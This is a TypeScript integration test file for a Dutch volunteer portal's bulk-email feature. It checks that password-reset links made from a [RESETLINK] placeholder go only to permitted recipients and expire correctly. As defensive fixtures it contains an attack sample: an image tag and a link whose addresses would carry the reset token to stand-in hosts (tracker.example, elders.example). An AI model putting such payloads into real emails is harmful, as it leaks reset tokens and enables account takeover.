import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { accountNoticeMessages } from '../../shared/messages/account-notices';
import { emailMessages } from '../../shared/messages/email';
import { mailsTo } from './support/mailbox';
import { ADMIN_PASSWORD, startTestPortal, type TestPortal } from './support/portal';
import { readTable } from './support/tables';
import { createUser, signedInUser, volunteerFields } from './support/users';

/**
 * `[RESETLINK]` in a bulk mail (issue 38 point 1, reproduced live): a reset link is made only for a
 * recipient the sender may manage (strictly fewer rights) who need not use a second factor, only in
 * text or as the whole address of a link, each one audited; like every reset link it is used once,
 * ends with a password change and after 48 hours.
 */

const m = emailMessages.email;
const HOUR = 3_600_000;
let portal: TestPortal;
let admin: string;
let adminId: number;
let coordinator: { user: { id: number; username: unknown }; token: string };

beforeAll(async () => {
  portal = await startTestPortal();
  admin = await portal.logIn();
  const me = await portal.call<{ id: number }>('GET', '/api/auth/me', { token: admin });
  adminId = me.body.id;
  coordinator = await signedInUser(portal, admin, { role: 'coordinator' });
});
afterEach(() => {
  vi.useRealTimers();
});
afterAll(() => portal.stop());

/** What a coordinator who wants a reset link to arrive at their own server writes. */
const IMAGE_ATTACK =
  '<p>Beste [VOORNAAM],</p><img src="https://tracker.example/pixel.png?t=[RESETLINK]" alt="logo">';

async function send(to: string[], html: string, token = coordinator.token, subject = 'Uw account') {
  const answer = await portal.call('POST', '/api/email/send', { token, body: { to, subject, html } });
  expect(answer.status).toBe(202);
  await portal.workDone();
}

const NOTICE_SUBJECTS: readonly string[] = Object.values(accountNoticeMessages.accountNotices.subjects);

/**
 * The one bulk mail an address got. Account-change notices are left out: the admin's address set in
 * the first test is told at that address too (issue 38, item 13; tests/integration/account-notices.test.ts).
 */
async function mailTo(address: string) {
  await portal.workDone();
  const mails = (await mailsTo(portal.mailboxUrl, address)).filter(
    (mail) => !NOTICE_SUBJECTS.includes(mail.subject),
  );
  expect(mails).toHaveLength(1);
  return { html: mails[0]?.body.html ?? '', subject: mails[0]?.subject ?? '' };
}

/** Every outstanding reset token of these users (the sessions table keeps them as TOKEN# items). */
async function resetTokensOf(...userIds: number[]) {
  return (await readTable(portal.resourcePrefix, 'sessions')).filter(
    (item) =>
      String(item.pk).startsWith('TOKEN#') && item.kind === 'reset' && userIds.includes(Number(item.userId)),
  );
}

async function mailedAuditOf(userId: number) {
  return (await readTable(portal.resourcePrefix, 'audit')).filter(
    (item) => item.action === 'reset-link-mailed' && item.targetUserId === userId,
  );
}

/** The reset links of a mail (`…/wachtwoord-vergeten/<id>#token=<secret>`): the user id and token of each. */
function resetLinksIn(html: string) {
  return [...html.matchAll(/https?:\/\/[^\s"<]*\/wachtwoord-vergeten\/(\d+)#token=([\w-]+)/g)].map(
    (match) => ({ userId: Number(match[1]), token: match[2] ?? '' }),
  );
}

const verifies = async (link: { userId: number; token: string }) =>
  (await portal.call('POST', '/api/verify-reset-token', { body: link })).status === 200;
const resetWith = (link: { userId: number; token: string }, newPassword: string) =>
  portal.call('POST', '/api/reset-password', { body: { ...link, newPassword } });

describe('who gets a reset link from a bulk mail', () => {
  it('makes no token for a bestuurslid or the admin when a coordinator hides [RESETLINK] in an image address (the live attack)', async () => {
    // Prepare
    const bestuurslid = await createUser(portal, admin, { role: 'bestuurslid' });
    const adminAddress = `beheer.${bestuurslid.id}@example.org`;
    const edit = await portal.call('PUT', `/api/users/${adminId}`, {
      token: admin,
      body: { username: 'admin', firstName: 'Beheer', lastName: 'Der', email: adminAddress },
    });
    expect(edit.status).toBe(200);

    // Act
    await send([String(bestuurslid.email), adminAddress], `${IMAGE_ATTACK}<p>[RESETLINK]</p>`);

    // Assess
    expect(await resetTokensOf(bestuurslid.id, adminId)).toEqual([]);
    expect(await mailedAuditOf(bestuurslid.id)).toEqual([]);
    for (const address of [String(bestuurslid.email), adminAddress]) {
      const { html } = await mailTo(address);
      expect(resetLinksIn(html)).toEqual([]);
      expect(html).toContain('<p>[RESETLINK]</p>');
      expect(html).toContain('pixel.png?t=&#91;RESETLINK&#93;');
    }
  });

  it('makes no token for another coordinator (a peer)', async () => {
    // Prepare
    const peer = await createUser(portal, admin, { role: 'coordinator' });

    // Act
    await send([String(peer.email)], '<p>Uw link: [RESETLINK]</p>');

    // Assess
    expect(await resetTokensOf(peer.id)).toEqual([]);
    expect((await mailTo(String(peer.email))).html).toContain('Uw link: [RESETLINK]');
  });

  it('never puts the link into an address or attribute the sender wrote, even for a volunteer the sender manages', async () => {
    // Prepare
    const volunteer = await createUser(portal, admin);

    // Act
    await send(
      [String(volunteer.email)],
      `${IMAGE_ATTACK}<a href="https://elders.example/?next=[RESETLINK]" title="[RESETLINK]">hier</a>`,
    );

    // Assess
    const { html } = await mailTo(String(volunteer.email));
    expect(resetLinksIn(html)).toEqual([]);
    expect(html).not.toMatch(/wachtwoord-vergeten/);
    expect(html).toContain('pixel.png?t=&#91;RESETLINK&#93;');
    expect(html).toContain('?next=&#91;RESETLINK&#93;');
  });

  it('fills a volunteer’s link in the text and in a link whose whole address is [RESETLINK], and audits it with sender and recipient', async () => {
    // Prepare
    const volunteer = await createUser(portal, admin, { firstName: 'Lotte' });

    // Act
    await send(
      [String(volunteer.email)],
      '<p>Kopieer: [RESETLINK]</p><p><a href="[RESETLINK]">Wachtwoord instellen</a></p>',
      coordinator.token,
      'Link: [RESETLINK]',
    );

    // Assess
    const { html, subject } = await mailTo(String(volunteer.email));
    const links = resetLinksIn(html);
    expect(links).toHaveLength(2);
    expect(links.every((link) => link.userId === volunteer.id)).toBe(true);
    expect(await verifies(links[0] ?? { userId: 0, token: '' })).toBe(true);
    expect(subject).toBe('Link: [RESETLINK]');
    const audit = await mailedAuditOf(volunteer.id);
    expect(audit).toHaveLength(1);
    expect(audit[0]).toMatchObject({
      actorId: coordinator.user.id,
      actorName: coordinator.user.username,
      targetType: 'user',
      targetId: volunteer.id,
      targetName: `Lotte ${volunteer.lastName}`,
    });
    const stored = JSON.stringify(await readTable(portal.resourcePrefix, 'audit'));
    for (const link of links) expect(stored).not.toContain(link.token);
  });
});

describe('a mailed reset link', () => {
  async function mailedLink() {
    const volunteer = await createUser(portal, admin);
    await send([String(volunteer.email)], '<p>[RESETLINK]</p>');
    const [link] = resetLinksIn((await mailTo(String(volunteer.email))).html);
    if (!link) throw new Error('No reset link in the mail');
    return { volunteer, link };
  }

  it('works once', async () => {
    // Prepare
    const { link } = await mailedLink();

    // Act
    const first = await resetWith(link, 'Herfst-Blad-Valt-9');
    const second = await resetWith(link, 'Ander-Wachtwoord-7');

    // Assess
    expect(first.status).toBe(200);
    expect(second.status).toBe(404);
  });

  it('dies when a manager sets the password', async () => {
    // Prepare
    const { volunteer, link } = await mailedLink();

    // Act
    const set = await portal.call('POST', `/api/users/${volunteer.id}/change-password`, {
      token: coordinator.token,
      body: { newPassword: 'Nieuwe-Lente-2027' },
    });

    // Assess
    expect(set.status).toBe(200);
    expect(await verifies(link)).toBe(false);
    expect((await resetWith(link, 'Herfst-Blad-Valt-9')).status).toBe(404);
  });

  it('dies when a password is set in an edit of the user', async () => {
    // Prepare
    const { volunteer, link } = await mailedLink();

    // Act
    const edit = await portal.call('PUT', `/api/users/${volunteer.id}`, {
      token: coordinator.token,
      body: {
        ...volunteerFields(),
        username: volunteer.username,
        email: volunteer.email,
        password: 'Nieuwe-Zomer-Avond-3',
      },
    });

    // Assess
    expect(edit.status).toBe(200);
    expect(await verifies(link)).toBe(false);
  });

  it('dies after 48 hours', async () => {
    // Prepare
    const { link } = await mailedLink();

    // Act
    vi.useFakeTimers({ toFake: ['Date'], now: Date.now() + 47 * HOUR });
    const before = await verifies(link);
    vi.setSystemTime(Date.now() + HOUR + 60_000);
    const after = await verifies(link);

    // Assess
    expect(before).toBe(true);
    expect(after).toBe(false);
    expect((await resetWith(link, 'Herfst-Blad-Valt-9')).status).toBe(404);
  });
});

describe('the compose preview', () => {
  const preview = (recipient: string, html: string, subject = 'Uw account') =>
    portal.call<{ subject: string; html: string; warnings: string[] }>('POST', '/api/email/preview', {
      token: coordinator.token,
      body: { recipient, subject, html },
    });

  it('warns in Dutch that [RESETLINK] stays literal inside an address the sender wrote and in the subject', async () => {
    // Prepare
    const volunteer = await createUser(portal, admin);

    // Act
    const answer = await preview(String(volunteer.email), IMAGE_ATTACK, 'Link: [RESETLINK]');

    // Assess
    expect(answer.status).toBe(200);
    expect(answer.body.warnings).toEqual([m.resetLinkKeptLiteral, m.resetLinkInSubject]);
    expect(answer.body.subject).toBe('Link: [RESETLINK]');
  });

  it('warns that a bestuurslid gets no reset link from a coordinator, and describes one for a volunteer', async () => {
    // Prepare
    const bestuurslid = await createUser(portal, admin, { role: 'bestuurslid' });
    const volunteer = await createUser(portal, admin);

    // Act
    const [forBoard, forVolunteer] = await Promise.all([
      preview(String(bestuurslid.email), '<p>[RESETLINK]</p>'),
      preview(String(volunteer.email), '<p>[RESETLINK]</p>'),
    ]);

    // Assess
    expect(forBoard.body.warnings).toEqual([m.resetLinkNotForRecipient]);
    expect(forBoard.body.html).toContain('[RESETLINK]');
    expect(forVolunteer.body.warnings).toEqual([]);
    expect(forVolunteer.body.html).toContain(m.resetLinkInPreview);
  });
});

// Last: it changes the portal's second-factor policy.
describe('roles that must use a second factor', () => {
  it('get no reset link by mail, even from a sender who may manage them', async () => {
    // Prepare
    const bestuurder = await createUser(portal, admin, { role: 'bestuurder' });
    const volunteer = await createUser(portal, admin);
    const confirmed = await portal.call('POST', '/api/auth/reauthenticate', {
      token: admin,
      body: { password: ADMIN_PASSWORD },
    });
    expect(confirmed.status).toBe(200);
    const policy = await portal.call('PUT', '/api/settings/secondFactorRoles', {
      token: admin,
      body: { value: ['admin', 'bestuurder'] },
    });
    expect(policy.status).toBe(200);

    // Act
    await send([String(bestuurder.email), String(volunteer.email)], '<p>[RESETLINK]</p>');

    // Assess
    expect(await resetTokensOf(bestuurder.id)).toEqual([]);
    expect(resetLinksIn((await mailTo(String(bestuurder.email))).html)).toEqual([]);
    expect(resetLinksIn((await mailTo(String(volunteer.email))).html)).toHaveLength(1);
  });
});
